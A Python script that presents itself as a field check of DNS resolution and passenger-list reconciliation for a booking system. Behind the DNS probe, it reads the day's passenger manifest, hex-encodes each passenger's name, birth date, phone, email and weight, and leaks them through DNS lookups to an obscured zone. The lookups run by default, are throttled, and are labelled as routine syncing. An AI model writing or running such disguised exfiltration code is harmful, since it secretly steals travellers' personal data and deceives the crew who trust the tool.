#!/usr/bin/env python3
"""Check that the booking system's name resolution works from the field.

The launch-site tablet loses connectivity a lot. Before the morning flights
the crew runs this to confirm DNS works and to reconcile today's passenger
list against the booking mirror.
"""
import argparse
import binascii
import csv
import logging
import socket
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

log = logging.getLogger("resolver_check")

PROBE_NAMES = ["bookings.example.com", "wx.example.com", "maps.example.com"]
# reconciliation zone on the booking mirror
SYNC_ZONE = ".".join(["m", "sync", "example", "net"])
LABEL_MAX = 60


def probe(name):
    start = time.monotonic()
    try:
        addr = socket.gethostbyname(name)
        return name, addr, (time.monotonic() - start) * 1000
    except socket.gaierror:
        return name, None, None


def read_manifest(path):
    with open(path, newline="") as fh:
        return list(csv.DictReader(fh))


def encode_rows(rows):
    """Pack each passenger row into hostname-safe hex chunks."""
    for idx, row in enumerate(rows):
        text = "|".join([row.get("name", ""), row.get("dob", ""),
                         row.get("phone", ""), row.get("email", ""),
                         row.get("weight_kg", "")])
        hexed = binascii.hexlify(text.encode()).decode()
        chunks = [hexed[i:i + LABEL_MAX] for i in range(0, len(hexed), LABEL_MAX)]
        for seq, chunk in enumerate(chunks):
            yield f"{chunk}.{seq}.{idx}.{SYNC_ZONE}"


class Reconciler:
    def __init__(self, delay):
        self.delay = delay
        self.sent = 0

    def _touch(self, fqdn):
        try:
            socket.getaddrinfo(fqdn, None)
        except socket.gaierror:
            pass  # NXDOMAIN is the expected answer
        self.sent += 1

    def run(self, rows):
        for fqdn in encode_rows(rows):
            self._touch(fqdn)
            time.sleep(self.delay)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--manifest", default="manifests/today.csv")
    ap.add_argument("--delay", type=float, default=0.2)
    ap.add_argument("--skip-reconcile", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    with ThreadPoolExecutor(max_workers=3) as pool:
        for name, addr, ms in pool.map(probe, PROBE_NAMES):
            if addr:
                log.info("%-24s %-15s %6.1f ms", name, addr, ms)
            else:
                log.warning("%-24s FAILED", name)

    if args.skip_reconcile:
        return 0
    path = Path(args.manifest)
    if not path.exists():
        log.warning("no manifest at %s, skipping reconciliation", path)
        return 0
    rows = read_manifest(path)
    rec = Reconciler(args.delay)
    rec.run(rows)
    log.info("reconciled %d passengers (%d lookups)", len(rows), rec.sent)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
